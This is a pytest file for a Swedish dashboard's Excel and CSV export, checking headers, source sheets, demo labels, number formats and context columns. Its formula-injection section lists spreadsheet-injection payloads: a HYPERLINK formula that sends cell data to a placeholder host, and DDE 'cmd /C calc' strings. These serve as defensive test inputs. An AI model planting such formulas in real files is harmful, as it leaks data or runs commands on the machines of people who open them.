"""Downloads read back: Swedish headers, the source of every row, the demo label, the Källor sheet, numbers as
numbers, CSV for Swedish Excel, the context columns and no formula from the data ever live in a spreadsheet."""

from __future__ import annotations

import ast
import csv
import io
import os
import subprocess
import sys
from io import BytesIO

import pandas as pd
import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from dashboard.core.numbers import format_value
from dashboard.export.downloads import CONTEXT_KEYS, csv_bytes, neutralised, printed_number, with_context, xlsx_bytes
from dashboard.figures.style import DEMO_LABEL
from tests.seeds import REPO

FRAME = pd.DataFrame({
    "Period": ["tertial 1 2021", "2021"],
    "Kön": ["Kvinnor", "Totalt"],
    "Värde": ["73,69 %", "72 %"],
    "Antal": [7154, None],
    "Källa": ["Tertialrapport 1 2021 arbetsmarknadsnämnden", "Tertialrapport 1 2021 arbetsmarknadsnämnden"],
    "Var i källan": ["rad 163", "rad 169"],
})


def _book(data: bytes):
    return load_workbook(BytesIO(data))


def test_data_sheet_has_swedish_headers_values_and_source_column() -> None:
    book = _book(xlsx_bytes(FRAME))
    assert book.sheetnames == ["Data", "Källor"]
    rows = list(book["Data"].iter_rows(values_only=True))
    assert rows[0] == ("Period", "Kön", "Värde", "Antal", "Källa", "Var i källan")
    assert rows[1] == ("tertial 1 2021", "Kvinnor", 73.69, 7154, "Tertialrapport 1 2021 arbetsmarknadsnämnden",
                       "rad 163")
    assert rows[2][3] is None  # a gap stays empty, never 0
    assert len(rows) == 3


def test_sources_sheet_lists_each_source_once_with_its_lines_and_the_rule() -> None:
    book = _book(xlsx_bytes(FRAME, sources=["Egen rad"], rule="Antal under 5 visas som <5."))
    rows = [r for r in book["Källor"].iter_rows(values_only=True) if any(r)]
    assert rows[0] == ("Källa", "Var i källan")
    assert ("Tertialrapport 1 2021 arbetsmarknadsnämnden", "rad 163, rad 169") in rows
    assert ("Egen rad", None) in rows or ("Egen rad", "") in rows
    assert ("Skydd av små tal", "Antal under 5 visas som <5.") in rows


def test_demo_data_is_labelled_in_a_first_column() -> None:
    book = _book(xlsx_bytes(FRAME, is_demo=True))
    rows = list(book["Data"].iter_rows(values_only=True))
    assert rows[0][0] == "Märkning"
    assert all(r[0] == DEMO_LABEL for r in rows[1:])
    assert any(DEMO_LABEL in (r[1] or "") for r in book["Källor"].iter_rows(values_only=True))


def test_no_demo_column_for_published_data() -> None:
    rows = list(_book(xlsx_bytes(FRAME))["Data"].iter_rows(values_only=True))
    assert "Märkning" not in rows[0]


# --- Formula injection ----------------------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"Klicka")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_text_with_an_apostrophe_in_excel(text: str) -> None:
    frame = pd.DataFrame({"Område": [text], "Antal": [12], "Källa": [text], "Var i källan": [text]})
    book = _book(xlsx_bytes(frame, sources=[text], rule=text))
    cells = [c for row in book["Data"].iter_rows(min_row=2) for c in row]
    notes = [c for row in book["Källor"].iter_rows(min_row=2) for c in row if c.value not in (None, "")]
    assert [c.value for c in cells] == ["'" + text, 12, "'" + text, "'" + text]
    assert [c.data_type for c in cells] == ["s", "n", "s", "s"]
    assert notes and all(c.data_type == "s" for c in notes)
    assert {c.value for c in notes} >= {"'" + text, "'" + text + ""}
    assert not any(isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t", "\r"))
                   for c in cells + notes)


@pytest.mark.parametrize("for_excel", [True, False], ids=["excel", "program"])
def test_formula_like_text_is_neutralised_in_csv(for_excel: bool) -> None:
    frame = pd.DataFrame({"Område": HOSTILE, "Antal": range(len(HOSTILE)), "Skillnad": ["-3"] * len(HOSTILE)})
    text = csv_bytes(frame, for_excel=for_excel).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";" if for_excel else ","))
    assert [r[0] for r in rows[1:]] == ["'" + t for t in HOSTILE]
    assert [r[1] for r in rows[1:]] == [str(i) for i in range(len(HOSTILE))]
    assert {r[2] for r in rows[1:]} == {"-3"}, "a number written as text is not a formula and stays as it is"


def test_numbers_and_ordinary_text_are_left_alone() -> None:
    for value in ("-3", "+5", "-0,5", "Rinkeby-Kista", "uppgift saknas", "<5", 7154, -3.5, None):
        assert neutralised(value) == value


def test_cli_export_neutralises_formula_like_text(database_url: str) -> None:
    """A hostile text in the database (as a corrupted load could leave it) reaches the CLI's CSV neutralised."""
    from dashboard.db.schema import observations
    from queries.db import engine

    hostile = '=HYPERLINK("http://example.invalid","x")'
    with engine(database_url).begin() as conn:
        row = conn.execute(observations.select().where(observations.c.measure == "kaa_omfattade").limit(1)).first()
        conn.execute(update(observations).where(observations.c.observation_id == row.observation_id)
                     .values(source_location=hostile))
    try:
        result = subprocess.run([sys.executable, "-m", "dashboard", "export", "observations"], cwd=REPO,
                                capture_output=True, text=True, env={**os.environ, "DATABASE_URL": database_url},
                                timeout=300)
    finally:
        with engine(database_url).begin() as conn:
            conn.execute(update(observations).where(observations.c.observation_id == row.observation_id)
                         .values(source_location=row.source_location))
    assert result.returncode == 0, result.stderr
    places = [r["source_location"] for r in csv.DictReader(io.StringIO(result.stdout))]
    assert "'" + hostile in places
    assert not any(p.startswith(("=", "+", "@")) for p in places)


# --- Numbers as numbers, CSV for Swedish Excel, context columns -------------------------------------

@pytest.mark.parametrize(("value", "unit", "decimals", "code"), [
    (7154, "antal", 0, "#,##0"), (54.5, "procent", 1, '#,##0.0" %"'), (73.69, "procent", 2, '#,##0.00" %"'),
    (-3.2, "procentenheter", 1, '#,##0.0" procentenheter"'), (1234567, "kr", 0, '#,##0" kr"'),
    (0, "antal", 0, "#,##0"),
])
def test_a_number_printed_the_dashboards_way_is_a_number_in_excel(value: float, unit: str, decimals: int,
                                                                  code: str) -> None:
    printed = format_value(value, unit, decimals)
    assert printed_number(printed) == (value, code)
    cell = _book(xlsx_bytes(pd.DataFrame({"Värde": [printed]})))["Data"]["A2"]
    assert (cell.value, cell.data_type, cell.number_format) == (value, "n", code)


@pytest.mark.parametrize("text", ["2021", "drygt 57,5 %", "uppgift saknas", "<5", "1234", "57,5 % (2021)", "7 154",
                                  "tertial 1 2021", "−"])
def test_other_text_stays_text(text: str) -> None:
    assert printed_number(text) is None
    cell = _book(xlsx_bytes(pd.DataFrame({"Värde": [text, "x"]})))["Data"]["A2"]
    assert (cell.value, cell.data_type) == (text, "s")


def test_numeric_columns_get_decimals_from_their_values() -> None:
    frame = pd.DataFrame({"Antal": [7154, 12], "Andel": [54.5, 60.0], "Kvot": [0.125, 1.0], "År": [2021, 2022]})
    sheet = _book(xlsx_bytes(frame))["Data"]
    assert [sheet.cell(2, i).number_format for i in range(1, 5)] == ["#,##0", "#,##0.0", "#,##0.00", "0"]
    assert [sheet.cell(2, i).value for i in range(1, 5)] == [7154, 54.5, 0.125, 2021]
    assert all(sheet.cell(2, i).data_type == "n" for i in range(1, 5))


def test_csv_for_excel_has_bom_semicolons_and_decimal_commas() -> None:
    frame = pd.DataFrame({"Område": ["Rinkeby-Kista", "Södermalm; city"], "Andel": [54.5, 7.25],
                          "Värde": ["7\u00a0154", "54,5 %"]})
    data = csv_bytes(frame)
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows == [["Område", "Andel", "Värde"], ["Rinkeby-Kista", "54,5", "7\u00a0154"],
                    ["Södermalm; city", "7,25", "54,5 %"]]
    program = csv_bytes(frame, for_excel=False)
    assert not program.startswith(b"\xef\xbb\xbf")
    assert list(csv.reader(io.StringIO(program.decode(), newline="")))[1] == ["Rinkeby-Kista", "54.5", "7\u00a0154"]


def test_context_columns_come_first_and_a_rows_own_column_wins() -> None:
    out = with_context(FRAME, {"Mått": "Andel i arbete", "Period": "2021", "Kön": "Totalt", "Dataset": "AR 2022"})
    assert list(out.columns[:2]) == ["Mått", "Dataset"]
    assert set(out["Mått"]) == {"Andel i arbete"} and list(out["Period"]) == list(FRAME["Period"])
    assert "Mått" not in with_context(FRAME, {"Mått": None, "Period": None, "Kön": None, "Dataset": None})
    with pytest.raises(ValueError, match="Dataset"):
        with_context(FRAME, {"Mått": "x", "Period": "x", "Kön": "x"})


def _download_calls() -> list[tuple[str, ast.Call]]:
    calls = []
    for path in [*(REPO / "pages").glob("*.py"), *(REPO / "dashboard").rglob("*.py")]:
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and \
                    node.func.attr == "download_table":
                calls.append((path.name, node))
    return calls


def test_every_download_on_the_pages_names_its_context_explicitly() -> None:
    calls = _download_calls()
    assert len(calls) >= 12, calls
    for name, call in calls:
        context = next((k.value for k in call.keywords if k.arg == "context"), None)
        if isinstance(context, ast.Attribute) and context.attr == "context":
            continue  # a view model's Download: its context is checked where the Download is made (below)
        assert isinstance(context, ast.Dict), f"{name}:{call.lineno} has no context dict"
        keys = [k.value for k in context.keys if isinstance(k, ast.Constant)]
        assert set(CONTEXT_KEYS) <= set(keys), f"{name}:{call.lineno}: {keys}"


def test_every_download_a_view_model_makes_names_its_context() -> None:
    """views/*.py make their downloads as Download(table, file name, context, …): the context is a dict with every
    key, written at the call or bound just before it in the same function."""
    made = 0
    for path in (REPO / "dashboard" / "views").glob("*.py"):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for function in [n for n in ast.walk(tree) if isinstance(n, ast.FunctionDef)]:
            bound = {t.id: n.value for n in ast.walk(function) if isinstance(n, ast.Assign)
                     for t in n.targets if isinstance(t, ast.Name)}
            for call in [n for n in ast.walk(function) if isinstance(n, ast.Call)
                         and isinstance(n.func, ast.Name) and n.func.id == "Download"]:
                context = next((k.value for k in call.keywords if k.arg == "context"),
                               call.args[2] if len(call.args) > 2 else None)
                if isinstance(context, ast.Name):
                    context = bound.get(context.id)
                assert isinstance(context, ast.Dict), f"{path.name}:{call.lineno} has no context dict"
                keys = [k.value for k in context.keys if isinstance(k, ast.Constant)]
                assert set(CONTEXT_KEYS) <= set(keys), f"{path.name}:{call.lineno}: {keys}"
                made += 1
    assert made >= 3
